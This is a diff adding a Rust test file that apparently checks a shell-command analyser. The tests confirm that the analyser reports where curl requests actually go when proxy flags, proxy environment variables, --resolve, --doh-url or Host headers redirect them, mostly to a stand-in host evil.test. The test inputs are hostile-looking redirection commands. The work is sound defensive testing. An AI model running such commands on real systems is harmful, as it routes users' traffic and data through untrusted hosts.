@@ -1,0 +1,58 @@
+//! Requests that go somewhere else than their URL says.
+
+use super::does;
+
+#[test]
+fn a_proxy_is_where_a_request_goes() {
+    let asks = "fetch https://a.test/x (external)";
+    let through = "fetch evil.test:3128 (external)";
+    for line in [
+        "curl -x evil.test:3128 https://a.test/x",
+        "curl --proxy=evil.test:3128 https://a.test/x",
+        "curl --socks5-hostname evil.test:3128 https://a.test/x",
+        "curl --preproxy evil.test:3128 https://a.test/x",
+        "curl --connect-to a.test:443:evil.test:3128 https://a.test/x",
+        "curl --connect-to ::evil.test:3128 https://a.test/x",
+    ] {
+        does(line, &[asks, through]);
+    }
+    // A variable: told where the request is told.
+    for line in [
+        "https_proxy=evil.test:3128 curl https://a.test/x",
+        "export ALL_PROXY=evil.test:3128; curl https://a.test/x",
+        "env HTTPS_PROXY=evil.test:3128 curl https://a.test/x",
+    ] {
+        does(line, &[asks, through]);
+    }
+    does("curl -x '' https://a.test/x", &[asks]);
+    does("https_proxy= curl https://a.test/x", &[asks]);
+}
+
+#[test]
+fn an_address_that_is_given_for_a_name_is_where_it_goes() {
+    does(
+        "curl --resolve a.test:443:6.6.6.6 https://a.test/x",
+        &["fetch https://a.test/x (external)", "fetch 6.6.6.6 (external)"],
+    );
+    does(
+        "curl --resolve '*:443:10.0.0.9,[2606:4700::1]' https://a.test/x",
+        &[
+            "fetch https://a.test/x (external)",
+            "fetch 10.0.0.9 (internal)",
+            "fetch [2606:4700::1] (external)",
+        ],
+    );
+    does(
+        "curl --doh-url https://evil.test/dns -d x https://a.test/x",
+        &["post https://a.test/x (external)", "post https://evil.test/dns (external)"],
+    );
+}
+
+#[test]
+fn a_host_header_is_where_it_goes() {
+    let both = ["fetch https://a.test/x?y (external)", "fetch https://evil.test/x?y (external)"];
+    does("curl -H 'Host: evil.test' 'https://a.test/x?y'", &both);
+    does("curl -H 'Accept: */*' -H 'host:evil.test' 'https://a.test/x?y'", &both);
+    does("http GET https://a.test/x?y Host:evil.test", &both);
+    does("curl -H 'Accept: */*' 'https://a.test/x?y'", &both[..1]);
+}
